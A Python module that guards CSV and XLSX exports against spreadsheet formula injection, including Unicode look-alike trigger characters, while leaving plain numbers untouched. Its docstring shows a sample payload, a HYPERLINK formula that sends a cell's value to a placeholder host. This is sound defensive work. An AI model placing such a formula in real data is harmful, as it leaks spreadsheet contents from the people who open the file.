"""Formula injection ("CSV injection", OWASP): a text that a spreadsheet would run as a formula is
neutralized in every export a spreadsheet opens.

A project named `=HYPERLINK("http://x/?leak="&A1,"点击查看")` must reach the analyst as text. Spreadsheets
start a formula at `=`, `+`, `-`, `@`, and OWASP adds tab and carriage return; the pipeline folds names
with NFKC, so a full-width `＝` may already have become `=`, and a text still holding `＝` (or `﹦`, `⁼` …)
would become one the next time anything folds it. So a text is neutralized when its first character, or
what NFKC makes of it, is one of those six.

- CSV: the text gets a leading single quote, as OWASP describes (the CSV macro, sql/exports/);
- XLSX: the cell stays a text cell holding the text as it is, with Excel's quote prefix set: what Excel
  itself stores when someone types `'=…`, so the value reads back unchanged and stays text when edited.

A text that is a plain number (`-12.5`, `+3`, `-1,234`, `-5%`) cannot call anything and is left alone,
so a negative figure kept as text still reads as a number.
"""

from __future__ import annotations

import re
import unicodedata

TRIGGERS = frozenset("=+-@\t\r")
# Every character whose NFKC form begins with a trigger (tests/test_exports.py recomputes this list from
# the Unicode data of the running Python): the six, and their full-width, small, superscript and
# subscript forms, ⩵ (==), ⩶ (===) and the Hebrew alternative plus sign.
FORMULA_STARTS = (
    "\t\r+-=@\u207a\u207c\u208a\u208c\u2a75\u2a76\ufb29\ufe62\ufe63\ufe66\ufe6b\uff0b\uff0d\uff1d\uff20"
)
# Patterns both Python's re and DuckDB's RE2 read the same way.
FORMULA_START = "^[" + "".join("\\" + c if c in "\\]^-" else c for c in FORMULA_STARTS) + "]"
PLAIN_NUMBER = r"[+-]?[0-9]+([.,][0-9]+)*([eE][+-]?[0-9]+)?%?"

_START, _NUMBER = re.compile(FORMULA_START), re.compile(PLAIN_NUMBER)


def starts_formula(text: str) -> bool:
    """Would a spreadsheet (now, or after NFKC folding) take this text for a formula?"""
    return bool(_START.match(text)) and not _NUMBER.fullmatch(text)


def formula_starts() -> str:
    """FORMULA_STARTS computed from the Unicode data (~0.4 s): what the constant must equal."""
    found = (chr(c) for c in range(0x110000) if not 0xD800 <= c < 0xE000)
    return "".join(sorted(c for c in found if unicodedata.normalize("NFKC", c)[:1] in TRIGGERS))
